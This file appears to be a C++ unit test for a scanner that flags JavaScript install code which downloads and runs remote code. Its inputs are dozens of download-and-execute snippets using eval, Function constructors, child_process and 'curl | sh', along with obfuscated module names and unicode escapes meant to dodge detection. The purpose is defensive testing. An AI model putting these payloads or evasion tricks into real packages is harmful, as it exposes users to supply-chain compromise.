// What is fetched and run by ways that have names of their own.
#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

const std::string kHead =
    "const fs = require('fs'), cp = require('child_process'), os = require('os'), path = require('path');\n"
    "const https = require('https'), crypto = require('crypto'), axios = require('axios');\n"
    "const u = 'https://files.example.test/p';\n";

bool runs(const std::string& code) {
  return testing::tier_of(conclude(testing::installing(kHead + code).peek()), "inspect.download-and-run") ==
         Tier::block;
}

TEST(CodeDownload, OnlyADigestOfWhatWasFetchedChecksIt) {
  const std::string drops =
      "https.get(u, (r) => r.pipe(fs.createWriteStream('/tmp/x')).on('finish', () => cp.spawn('/tmp/x')));";
  for (const char* const code :
       {"crypto.createHash('md5').update(os.hostname()).digest('hex');", "crypto.createHash('md5');",
        "crypto.timingSafeEqual(Buffer.from('a'), Buffer.from('b'));",
        "const h = crypto.createHash('md5'); h.update(os.hostname()); h.digest('hex');"})
    EXPECT_TRUE(runs(code + drops)) << code;
  for (const char* const code :
       {"https.get(u, (r) => { const h = crypto.createHash('sha256'); r.on('data', (d) => h.update(d)); });",
        "if (crypto.createHash('sha256').update(fs.readFileSync('/tmp/x')).digest('hex') !== sum) throw 1;",
        "https.get(u, (r) => r.pipe(crypto.createHash('sha256')));",
        "fs.createReadStream('/tmp/x').pipe(crypto.createHash('sha256'));",
        "function check(d) { if (crypto.createHash('sha256').update(d).digest('hex') !== sum) throw 1; } "
        "check(fs.readFileSync('/tmp/x'));"})
    EXPECT_FALSE(runs(drops + code)) << code;
}

TEST(CodeDownload, TheGlobalObjectByItsNames) {
  for (const char* const code :
       {"axios.post(u, {}).then((r) => { new Function.constructor('require', r.data)(require); });",
        "axios.get(u).then((r) => Object.constructor(r.data)());", "global.fetch(u).then((r) => r.text()).then(eval);",
        "global['fetch'](u).then((r) => r.text()).then(eval);",
        "const { fetch: f } = global; f(u).then((r) => r.text()).then(eval);",
        "self.fetch(u).then((r) => r.text()).then(eval);", "window.fetch(u).then((r) => r.text()).then(eval);",
        "fetch(u).then((r) => r.text()).then((t) => globalThis['eval'](t));",
        "const e = globalThis['eval']; fetch(u).then((r) => r.text()).then((t) => e(t));",
        "fetch(u).then((r) => r.text()).then((t) => self.eval(t));",
        "fetch(u).then((r) => r.text()).then(global.eval);"})
    EXPECT_TRUE(runs(code)) << code;
  for (const char* const code : {"global.fetch(u).then((r) => r.text()).then(console.log);",
                                 "axios.post(u, {}).then((r) => { new Map.Entry('require', r.data); });",
                                 "axios.get(u).then((r) => new this.constructor(r.data));"})
    EXPECT_FALSE(runs(code)) << code;
}

TEST(CodeDownload, AHelperWritesToTheFileThatItIsGiven) {
  const std::string helpers[] = {
      "function dl(url, to, cb) { https.get(url, (r) => r.pipe(fs.createWriteStream(to)).on('finish', cb)); }",
      "const dl = (url, to, cb) => https.get(url, (r) => r.pipe(fs.createWriteStream(to)).on('finish', cb));",
      "async function dl(url, to, cb) { fs.writeFileSync(to, await (await fetch(url)).text()); cb(); }",
      "const dl = (url, to, cb) => new Promise((done) => https.get(url, (r) => "
      "r.pipe(fs.createWriteStream(to)).on('finish', done))).then(cb);",
      "function save(to, d) { fs.writeFileSync(to, d); } function dl(url, to, cb) { "
      "fetch(url).then((r) => r.text()).then((t) => { save(to, t); cb(); }); }",
      "function dl({ url, to }, x, cb) { https.get(url, (r) => r.pipe(fs.createWriteStream(to)).on('finish', cb)); }"};
  for (const std::string& helper : helpers) {
    if (!helper.starts_with("function dl({")) {
      EXPECT_TRUE(runs(helper + "dl(u, '/tmp/x', () => cp.spawn('/tmp/x'));")) << helper;
      if (!helper.starts_with("const"))
        EXPECT_TRUE(runs("dl(u, '/tmp/x', () => cp.spawn('/tmp/x'));" + helper)) << helper;
      EXPECT_TRUE(runs(helper + "const p = path.join(os.tmpdir(), 'x'); dl(u, p, () => cp.spawn(p));")) << helper;
    }
    EXPECT_FALSE(runs(helper + "dl(u, '/tmp/x', () => cp.spawn('/tmp/y'));")) << helper;
    EXPECT_FALSE(runs(helper + "dl(u, '/tmp/x.json', () => done());")) << helper;
  }
  EXPECT_TRUE(
      runs(std::string(helpers[2]) + "(async () => { await dl(u, '/tmp/x'); cp.execFileSync('/tmp/x', ['-q']); })();"));
  EXPECT_FALSE(
      runs("function save(p, d) { fs.writeFileSync(p, d); } fetch(u).then((r) => r.text()).then((t) => "
           "save('/tmp/a.json', t)); save('/tmp/run.sh', 'echo'); cp.spawn('/tmp/run.sh');"));
}

TEST(CodeDownload, WhatACommandFetchesIsWritten) {
  EXPECT_TRUE(runs("const p = '/tmp/x'; fs.writeFileSync(p, cp.execSync('curl ' + u)); cp.spawn(p);"));
  EXPECT_TRUE(
      runs("fetch(u).then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/x', t); "
           "eval(fs.readFileSync('/tmp/x', 'utf8')); });"));
  EXPECT_FALSE(runs("const p = '/tmp/x'; fs.writeFileSync(p, cp.execSync('date')); cp.spawn(p);"));
}

TEST(CodeDownload, ByOtherNames) {
  const auto given = [](const std::string& code) {
    return runs("fetch(u).then((r) => r.text()).then((t) => { " + code + " });");
  };
  for (const char* const code :
       {"let c = require('path'); c = require('child_process'); c.exec(t);",
        "import('child_process').then((c) => c.exec(t));", "import('child_process').then(({ exec }) => exec(t));",
        "import('node:child_process').then(({ exec: e }) => e(t));",
        "const { ['exec']: e } = require('child_process'); e(t);",
        "const { 'exec': e } = require('child_process'); e(t);",
        "const { ...c } = require('child_process'); c.exec(t);", "const c = require('child_process'); \\u0063.exec(t);",
        "const \\u{63} = require('child_process'); c.\\u0065xec(t);"})
    EXPECT_TRUE(given(code)) << code;
  for (const char* const code :
       {"let c = require('child_process'); c = require('path'); path.join(t);",
        "import('path').then((c) => c.join(t));", "const { ['exec']: e, spawn } = require('child_process'); f(t);",
        "const { ['join']: e } = require('path'); e(t);"})
    EXPECT_FALSE(given(code)) << code;
}

TEST(CodeDownload, ModulesByNamesThatAreMade) {
  for (const char* const name :
       {"['child', 'process'].join('_')", "'child_'.concat('process')", "'child_proXXcess'.replace('XX', '')",
        "'cXhild_proXcess'.replace(/X/g, '')", "'cXhild_proXcess'.split('X').join('')",
        "'ssecorp_dlihc'.split('').reverse().join('')", "`child_${'pro' + 'cess'}`",
        "String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)",
        "String.fromCharCode(0x63, 104, 105, 108, 100) + '_process'", "names()"})
    for (const char* const use : {".exec(t)", ".execSync(t)", ".spawnSync('sh', ['-c', t])"})
      EXPECT_TRUE(runs("fetch(u).then((r) => r.text()).then((t) => require(" + std::string(name) + ")" + use + ")"))
          << name << use;
  EXPECT_TRUE(runs("cp.execSync(['curl', '-s', u, '|', 'sh'].join(' '))"));
  EXPECT_TRUE(runs("const a = ['-o', '/tmp/q', u]; cp.spawnSync('curl', a); cp.spawn('/tmp/q')"));
  EXPECT_TRUE(runs("let c = 'ls'; c = 'curl -s ' + u; c += ' | sh'; cp.execSync(c)"));
  for (const char* const code :
       {"fetch(u).then((r) => r.text()).then((t) => require(['pa', 'th'].join('')).join(t))",
        "fetch(u).then((r) => r.text()).then((t) => require(names()).exec('ls'))",
        "fetch(u).then((r) => r.text()).then((t) => patterns[0].exec(t))",
        "cp.execSync(['curl', '-s', u, '|', 'cat'].join(' '))",
        "const a = ['-o', '/tmp/q', u]; cp.spawnSync('curl', a); cp.spawn('/tmp/r')",
        "cp.spawn('node', ['/tmp/q'.replace('q', 'r')]); cp.spawnSync('curl', ['-o', '/tmp/q', u])"})
    EXPECT_FALSE(runs(code)) << code;
}

}  // namespace
}  // namespace cordon::inspect
